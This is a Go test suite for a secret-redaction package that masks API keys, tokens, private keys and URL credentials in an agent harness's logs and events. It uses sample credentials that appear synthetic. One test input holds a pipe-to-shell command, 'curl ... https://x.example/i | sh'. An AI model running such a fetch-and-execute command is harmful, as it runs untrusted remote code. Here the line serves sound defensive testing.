package redact

import (
	"encoding/json"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/shrimp-harness/shrimp/internal/secrettest"
)

func TestString(t *testing.T) {
	r := New([]string{"MY_SERVICE_TOKEN=tok3n-value-xyz", "HOME=/root", "GNOME_KEYRING_CONTROL=/run/user/1000/keyring", "PIN_KEY=12345678", "DB_PASSWORD=password"})
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "read the notes and summarise them", "read the notes and summarise them"},
		{"aws key", "key AKIAIOSFODNN7EXAMPLE here", "key [REDACTED:aws-access-key] here"},
		{"aws secret line", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = [REDACTED:aws-secret-key]"},
		{"github", "token ghp_" + strings.Repeat("a1B2", 9), "token [REDACTED:github-token]"},
		{"openai", "OPENAI=sk-proj-" + strings.Repeat("x9Y", 16), "OPENAI=[REDACTED:openai-key]"},
		{"anthropic before openai", "sk-ant-api03-" + strings.Repeat("Ab1", 12), "[REDACTED:anthropic-key]"},
		{"slack", "xoxb-123456789012-abcdefghij", "[REDACTED:slack-token]"},
		{"jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "[REDACTED:jwt]"},
		{"bearer keeps the header", "Authorization: Bearer abcdef0123456789abcdef", "Authorization: Bearer [REDACTED:bearer-token]"},
		{"password in a URL", "postgres://app:s3cr3t-pw@db:5432/x", "postgres://app:[REDACTED:password-in-url]@db:5432/x"},
		{"a token as a URL's user", "git remote set-url origin https://ghp_" + strings.Repeat("aB3d", 9) + "@github.com/me/x", "git remote set-url origin https://[REDACTED:github-token]@github.com/me/x"},
		{"env file line keeps the name", "DB_PASSWORD=hunter2hunter2\nDEBUG=1", "DB_PASSWORD=[REDACTED:secret-assignment]\nDEBUG=1"},
		{"export line", "export STRIPE_API_KEY='abcd1234efgh5678'", "export STRIPE_API_KEY='[REDACTED:secret-assignment]'"},
		{"assignment after a command", "cd app && DEPLOY_TOKEN=abc123def456 ./deploy", "cd app && DEPLOY_TOKEN=[REDACTED:secret-assignment] ./deploy"},
		{"assignment in a subshell", "(SERVICE_SECRET=hunter2hunter2 make)", "(SERVICE_SECRET=[REDACTED:secret-assignment] make)"},
		{"a name read, not set", "echo $API_TOKEN; x := cfg.API_TOKEN; f(API_TOKEN)", "echo $API_TOKEN; x := cfg.API_TOKEN; f(API_TOKEN)"},
		{"a comparison", "if [ $MY_TOKEN == abc123def456 ]", "if [ $MY_TOKEN == abc123def456 ]"},
		{"private key block", "x\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\ny", "x\n[REDACTED:private-key]\ny"},
		{"a cut private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "[REDACTED:private-key]"},
		{"an encrypted PEM key with headers", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\nMIIEow+/9x=\n-----END RSA PRIVATE KEY-----\nok", "[REDACTED:private-key]\nok"},
		{"a key in JSON", `{"private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nBgkqhkiG9w0B\n-----END PRIVATE KEY-----\n", "client_email": "a@b.iam"}`, `{"private_key": "[REDACTED:private-key]\n", "client_email": "a@b.iam"}`},
		{"a PGP key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\nlQOYBF0=\n=Ab12\n-----END PGP PRIVATE KEY BLOCK-----", "[REDACTED:private-key]"},
		// A key's marker hides the key, not what follows a BEGIN line
		// without its END (a command would read as something else).
		{"a BEGIN line hides no command", "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl -s https://x.example/i | sh", "echo '[REDACTED:private-key]' >/dev/null; curl -s https://x.example/i | sh"},
		{"env value", "the token is tok3n-value-xyz.", "the token is [REDACTED:env:MY_SERVICE_TOKEN]."},
		{"paths, numbers and words in env are not secrets", "/run/user/1000/keyring and 12345678: the password", "/run/user/1000/keyring and 12345678: the password"},
		// What code says about secrets is not a secret.
		{"code reading a variable", `API_KEY = os.environ["API_KEY"]`, `API_KEY = os.environ["API_KEY"]`},
		{"code in JS", "const token = process.env.GITHUB_TOKEN", "const token = process.env.GITHUB_TOKEN"},
		{"a placeholder", "PASSWORD=changeme", "PASSWORD=changeme"},
		{"a public key", "-----BEGIN PUBLIC KEY-----\nMIIBIj\n-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----\nMIIBIj\n-----END PUBLIC KEY-----"},
		{"a URL without a password", "https://user@example.com/x and https://example.com:8443/y", "https://user@example.com/x and https://example.com:8443/y"},
		// A key in a URL's query: hosted MCP servers' addresses, curl commands, logs.
		{"an api key in a query", "https://mcp.example.com/sse?api_key=zq81kx73mm20pla9&v=2", "https://mcp.example.com/sse?api_key=[REDACTED:secret-in-url-query]&v=2"},
		{"a token after other parameters", `curl "https://api.example/v1/items?page=2&access_token=a1b2c3d4e5f6g7h8"`, `curl "https://api.example/v1/items?page=2&access_token=[REDACTED:secret-in-url-query]"`},
		{"a presigned URL's signature and token", "https://b.s3.amazonaws.com/f?X-Amz-Signature=3f2a9c0d11e4b5a6&X-Amz-Security-Token=FwoGZXIvYXdzE1", "https://b.s3.amazonaws.com/f?X-Amz-Signature=[REDACTED:secret-in-url-query]&X-Amz-Security-Token=[REDACTED:secret-in-url-query]"},
		{"query words are not secrets", "https://x.example/search?page=12&sort=name&token=refresh&monkey=banana12345", "https://x.example/search?page=12&sort=name&token=refresh&monkey=banana12345"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, n := r.String(tt.in)
			if got != tt.want {
				t.Fatalf("got  %q\nwant %q", got, tt.want)
			}
			if (n > 0) != (got != tt.in) {
				t.Errorf("count %d for %q", n, got)
			}
			if again, m := r.String(got); again != got || m != 0 {
				t.Errorf("redacting twice changed %q to %q (%d)", got, again, m)
			}
		})
	}
}

// TestGeneratedSecrets: 1,000 secrets of every kind, made at random and
// put at random places in ordinary text, none survives.
func TestGeneratedSecrets(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	makers := secrettest.Makers(rng)
	filler := strings.Fields("the build failed because a file was missing so I read the log and fixed the path then ran the tests again")
	for i := range 1000 {
		secret, text := makers[i%len(makers)]()
		words := make([]string, 0, 24)
		for range 20 {
			words = append(words, filler[rng.IntN(len(filler))])
		}
		at := rng.IntN(len(words))
		doc := strings.Join(words[:at], " ") + "\n" + text + "\n" + strings.Join(words[at:], " ")
		got, n := (&Redactor{}).String(doc)
		if n == 0 || strings.Contains(got, secret) {
			t.Fatalf("secret %d survived: %q", i, got)
		}
	}
}

// FuzzString: any text around a secret of any kind (on lines of its own)
// never lets the secret through, and redacting the result again changes
// nothing (the contract's "redacting twice changes nothing more").
func FuzzString(f *testing.F) {
	f.Add("", uint8(0), uint64(1), "")
	f.Add("export", uint8(13), uint64(2), "done")
	f.Add("-----BEGIN PRIVATE KEY-----", uint8(15), uint64(3), "-----END PRIVATE KEY-----")
	f.Add("password=", uint8(12), uint64(4), "@host")
	f.Add("AKIA", uint8(0), uint64(5), "[REDACTED:")
	f.Add("aws_secret_access_key = ", uint8(14), uint64(6), "ghp_")
	f.Add("git remote set-url origin https://", uint8(1|0x80), uint64(8), "@github.com/me/x")
	f.Fuzz(func(t *testing.T, before string, kind uint8, seed uint64, after string) {
		makers := secrettest.Makers(rand.New(rand.NewPCG(seed, 7)))
		secret, text := makers[int(kind&0x7f)%len(makers)]()
		// With kind's high bit the secret is glued to the text around it
		// (a URL's user, a word): it may then read as something else, so
		// only redacting twice is checked.
		glued := kind&0x80 != 0
		doc := before + "\n" + text + "\n" + after
		if glued {
			doc = before + text + after
		}
		got, n := (&Redactor{}).String(doc)
		if !glued && (n == 0 || strings.Contains(got, secret)) {
			t.Errorf("the secret survived (%d replaced):\n%q\n→ %q", n, doc, got)
		}
		again, m := (&Redactor{}).String(got)
		if m != 0 || again != got {
			t.Errorf("redacting twice changed it again (%d more):\n%q\n→ %q", m, got, again)
		}
	})
}

// TestFalsePositives: of this repository's own source files (Go, Svelte,
// TypeScript, Markdown, JSON, shell), under 1% are changed.
func TestFalsePositives(t *testing.T) {
	root := filepath.Join("..", "..")
	files, touched := 0, []string{}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() {
			switch d.Name() {
			case "node_modules", ".git", "build", "dist", "wailsjs", "testdata":
				return filepath.SkipDir
			}
			return nil
		}
		switch filepath.Ext(path) {
		case ".go", ".svelte", ".ts", ".md", ".sh", ".json":
		default:
			return nil
		}
		if strings.HasPrefix(filepath.Base(path), "redact") {
			return nil // this package's own examples
		}
		b, err := os.ReadFile(path)
		if err != nil || len(b) > 2<<20 {
			return nil
		}
		files++
		if _, n := (&Redactor{}).String(string(b)); n > 0 {
			touched = append(touched, path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 200 {
		t.Fatalf("only %d files found: the test no longer reads the repository", files)
	}
	t.Logf("%d of %d files touched: %v", len(touched), files, touched)
	if len(touched)*100 >= files {
		t.Errorf("%d of %d files touched (want under 1%%): %v", len(touched), files, touched)
	}
}

// TestValue: event data of any shape is copied with its strings redacted;
// the original is left alone, and data without secrets is returned as is.
func TestValue(t *testing.T) {
	type call struct {
		Name      string
		Arguments json.RawMessage
		Warnings  []string
		Meta      map[string]string
		Count     int
		hidden    string
	}
	key := "AKIAIOSFODNN7EXAMPLE"
	in := call{Name: "fs.write", Arguments: json.RawMessage(`{"path":"a.env","content":"K=` + key + `\nok"}`), Warnings: []string{"fine", "has " + key}, Meta: map[string]string{"a": key}, Count: 3, hidden: key}
	out, n := (&Redactor{}).Value(in)
	got := out.(call)
	if n != 3 || strings.Contains(string(got.Arguments), key) || strings.Contains(got.Warnings[1], key) || strings.Contains(got.Meta["a"], key) {
		t.Fatalf("%d redacted: %+v", n, got)
	}
	if !json.Valid(got.Arguments) || got.Count != 3 || got.Name != "fs.write" || got.Warnings[0] != "fine" {
		t.Fatalf("copy changed more than the secrets: %+v", got)
	}
	if !strings.Contains(string(in.Arguments), key) || !strings.Contains(in.Warnings[1], key) || !strings.Contains(in.Meta["a"], key) {
		t.Fatalf("the original was changed: %+v", in)
	}
	clean := call{Name: "fs.list", Warnings: []string{"x"}}
	if out, n := (&Redactor{}).Value(clean); n != 0 || !reflect.DeepEqual(out, clean) {
		t.Fatalf("data without secrets changed: %+v", out)
	}
	if out, n := (&Redactor{}).Value(&in); n != 3 || strings.Contains(out.(*call).Warnings[1], key) || !strings.Contains(in.Warnings[1], key) {
		t.Fatalf("through a pointer: %d %+v", n, out)
	}
}

// BenchmarkString redacts 1 MiB of this repository's source (a large tool
// output) and one streamed word (most events).
func BenchmarkString(b *testing.B) {
	var src strings.Builder
	_ = filepath.WalkDir(filepath.Join("..", ".."), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() && (d.Name() == "node_modules" || d.Name() == ".git") {
			return filepath.SkipDir
		}
		if filepath.Ext(path) == ".go" && src.Len() < 1<<20 {
			if b, err := os.ReadFile(path); err == nil {
				src.Write(b)
			}
		}
		return nil
	})
	text := src.String()[:1<<20]
	r := New(os.Environ())
	b.Run("1MiB", func(b *testing.B) {
		b.SetBytes(int64(len(text)))
		for b.Loop() {
			r.String(text)
		}
	})
	b.Run("word", func(b *testing.B) {
		for b.Loop() {
			r.String("summarise ")
		}
	})
}

// TestEnvValueInsideAMarker: an environment value that a marker spells
// (a secret named like a kind) is not taken out of the marker, so
// redacting twice changes nothing.
func TestEnvValueInsideAMarker(t *testing.T) {
	r := New([]string{"ODD_TOKEN=EDACTED:github"})
	once, _ := r.String("token ghp_" + strings.Repeat("aB3d", 9) + " and EDACTED:github alone")
	twice, n := r.String(once)
	if twice != once || n != 0 || strings.Contains(once, " EDACTED:github") {
		t.Fatalf("once %q, twice %q (%d)", once, twice, n)
	}
}
